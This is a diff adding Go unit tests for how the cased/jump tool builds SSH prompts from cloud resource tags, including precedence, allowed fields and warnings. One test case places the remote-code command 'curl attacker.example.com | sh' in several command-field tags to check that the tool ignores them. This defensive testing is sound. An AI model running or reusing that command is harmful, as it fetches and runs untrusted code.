@@ -0,0 +1,214 @@
+package v1alpha_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/cased/jump/providers"
+	jump "github.com/cased/jump/types/v1alpha"
+	"github.com/kylelemons/godebug/pretty"
+)
+
+func TestDecorateWithResource(t *testing.T) {
+	yes, no := true, false
+	tags := map[string]string{
+		"Name":                  "web-1",
+		"jump:name":             "web",
+		"jump:username":         "deploy",
+		"jump:featured":         "true",
+		"jump:labels.team":      "payments",
+		"jump:annotations.docs": "https://example.com/runbook",
+		"jump:promptForKey":     "maybe",
+		"jump:principals":       "admins",
+		"jump:nonsense":         "value",
+	}
+	template := &jump.Prompt{Name: "template", Description: "Web server", Featured: &no}
+	discovered := map[string]string{"vpc-id": "vpc-1"}
+
+	tests := []struct {
+		Name         string
+		Config       *jump.ResourceConfig
+		Tags         map[string]string
+		Want         *jump.Prompt
+		WantWarnings []string
+	}{
+		{
+			Name: "disabled by default",
+			Tags: tags,
+			Want: &jump.Prompt{
+				Name:        "template",
+				Hostname:    "web-1.example.com",
+				Description: "Web server",
+				Featured:    &no,
+				Labels:      discovered,
+			},
+		},
+		{
+			Name:   "template wins by default",
+			Config: &jump.ResourceConfig{Enabled: &yes},
+			Tags:   tags,
+			Want: &jump.Prompt{
+				Name:        "template",
+				Hostname:    "web-1.example.com",
+				Username:    "deploy",
+				Description: "Web server",
+				Featured:    &no,
+				Labels:      map[string]string{"vpc-id": "vpc-1", "team": "payments"},
+			},
+			WantWarnings: []string{
+				`ignoring resource key jump:annotations.docs: prompt field "annotations.docs" can't be set by resources`,
+				`ignoring resource key jump:nonsense: prompt field "nonsense" can't be set by resources`,
+				`ignoring resource key jump:principals: prompt field "principals" can't be set by resources`,
+				`ignoring resource key jump:promptForKey: prompt field "promptForKey" can't be set by resources`,
+			},
+		},
+		{
+			Name:   "resource wins",
+			Config: &jump.ResourceConfig{Enabled: &yes, Precedence: "resource"},
+			Tags:   tags,
+			Want: &jump.Prompt{
+				Name:        "web",
+				Hostname:    "web-1.example.com",
+				Username:    "deploy",
+				Description: "Web server",
+				Featured:    &yes,
+				Labels:      map[string]string{"vpc-id": "vpc-1", "team": "payments"},
+			},
+			WantWarnings: []string{
+				`ignoring resource key jump:annotations.docs: prompt field "annotations.docs" can't be set by resources`,
+				`ignoring resource key jump:nonsense: prompt field "nonsense" can't be set by resources`,
+				`ignoring resource key jump:principals: prompt field "principals" can't be set by resources`,
+				`ignoring resource key jump:promptForKey: prompt field "promptForKey" can't be set by resources`,
+			},
+		},
+		{
+			Name:   "connection fields are only read when listed and provider labels never",
+			Config: &jump.ResourceConfig{Enabled: &yes, Precedence: "resource"},
+			Tags: map[string]string{
+				"jump:hostname":           "attacker.example.com",
+				"jump:ipAddress":          "203.0.113.1",
+				"jump:port":               "2222",
+				"jump:jumpCommand":        "curl attacker.example.com | sh",
+				"jump:shellCommand":       "curl attacker.example.com | sh",
+				"jump:preDownloadCommand": "curl attacker.example.com | sh",
+				"jump:connectCommand":     "curl attacker.example.com | sh",
+				"jump:labels.vpc-id":      "vpc-2",
+			},
+			Want: &jump.Prompt{
+				Name:        "template",
+				Hostname:    "web-1.example.com",
+				Description: "Web server",
+				Featured:    &no,
+				Labels:      discovered,
+			},
+			WantWarnings: []string{
+				`ignoring resource key jump:connectCommand: prompt field "connectCommand" can't be set by resources`,
+				`ignoring resource key jump:hostname: prompt field "hostname" can't be set by resources`,
+				`ignoring resource key jump:ipAddress: prompt field "ipAddress" can't be set by resources`,
+				`ignoring resource key jump:jumpCommand: prompt field "jumpCommand" can't be set by resources`,
+				`ignoring resource key jump:port: prompt field "port" can't be set by resources`,
+				`ignoring resource key jump:preDownloadCommand: prompt field "preDownloadCommand" can't be set by resources`,
+				`ignoring resource key jump:shellCommand: prompt field "shellCommand" can't be set by resources`,
+			},
+		},
+		{
+			Name:   "listed fields",
+			Config: &jump.ResourceConfig{Enabled: &yes, Fields: []string{"shellCommand", "promptForKey"}},
+			Tags: map[string]string{
+				"jump:shellCommand": "./bin/rails console",
+				"jump:promptForKey": "maybe",
+				"jump:username":     "deploy",
+			},
+			Want: &jump.Prompt{
+				Name:         "template",
+				Hostname:     "web-1.example.com",
+				Description:  "Web server",
+				ShellCommand: "./bin/rails console",
+				Featured:     &no,
+				Labels:       discovered,
+			},
+			WantWarnings: []string{
+				`ignoring resource key jump:promptForKey: strconv.ParseBool: parsing "maybe": invalid syntax`,
+				`ignoring resource key jump:username: prompt field "username" can't be set by resources`,
+			},
+		},
+		{
+			Name:   "disabled",
+			Config: &jump.ResourceConfig{Enabled: &no},
+			Tags:   tags,
+			Want: &jump.Prompt{
+				Name:        "template",
+				Hostname:    "web-1.example.com",
+				Description: "Web server",
+				Featured:    &no,
+				Labels:      discovered,
+			},
+		},
+		{
+			Name:   "custom prefix",
+			Config: &jump.ResourceConfig{Enabled: &yes, Prefix: "shell/"},
+			Tags:   map[string]string{"shell/username": "deploy", "jump:featured": "true"},
+			Want: &jump.Prompt{
+				Name:        "template",
+				Hostname:    "web-1.example.com",
+				Username:    "deploy",
+				Description: "Web server",
+				Featured:    &no,
+				Labels:      discovered,
+			},
+		},
+		{
+			Name:   "excluded",
+			Config: &jump.ResourceConfig{Enabled: &yes},
+			Tags:   map[string]string{"jump:exclude": "true", "jump:name": "web"},
+		},
+		{
+			Name:   "not excluded",
+			Config: &jump.ResourceConfig{Enabled: &yes},
+			Tags:   map[string]string{"jump:exclude": "false"},
+			Want: &jump.Prompt{
+				Name:        "template",
+				Hostname:    "web-1.example.com",
+				Description: "Web server",
+				Featured:    &no,
+				Labels:      discovered,
+			},
+		},
+	}
+	for _, test := range tests {
+		t.Run(test.Name, func(t *testing.T) {
+			query := &jump.PromptQuery{Prompt: template, ResourceConfig: test.Config}
+			labels := map[string]string{"vpc-id": "vpc-1"}
+			got := (&jump.Prompt{Hostname: "web-1.example.com", Labels: labels}).DecorateWithResource(query, test.Tags)
+			if diff := pretty.Compare(query.Warnings(), test.WantWarnings); diff != "" {
+				t.Errorf("unexpected warnings:\n%s", diff)
+			}
+			if test.Want == nil {
+				if got != nil {
+					t.Fatalf("expected the resource to be excluded, got %+v", got)
+				}
+				return
+			}
+			if diff := pretty.Compare(got, jump.PromptWithDefaults(test.Want)); diff != "" {
+				t.Errorf("unexpected prompt:\n%s", diff)
+			}
+		})
+	}
+}
+
+func TestResourceConfigInvalid(t *testing.T) {
+	providers.Register()
+	_, err := jump.LoadAutoDiscoveryConfigFromPaths([]string{"testdata/resource/invalid.yaml"})
+	if err == nil {
+		t.Fatal("expected an error")
+	}
+	for _, want := range []string{
+		`invalid.yaml:2: resourceConfig: precedence must be template or resource, got "tags"`,
+		`invalid.yaml:2: resourceConfig: fields: prompt field "labels" can't be set by resources`,
+		`invalid.yaml:2: resourceConfig: fields: prompt field "hostnames" can't be set by resources`,
+	} {
+		if !strings.Contains(err.Error(), want) {
+			t.Errorf("expected error to contain %q, got:\n%s", want, err)
+		}
+	}
+}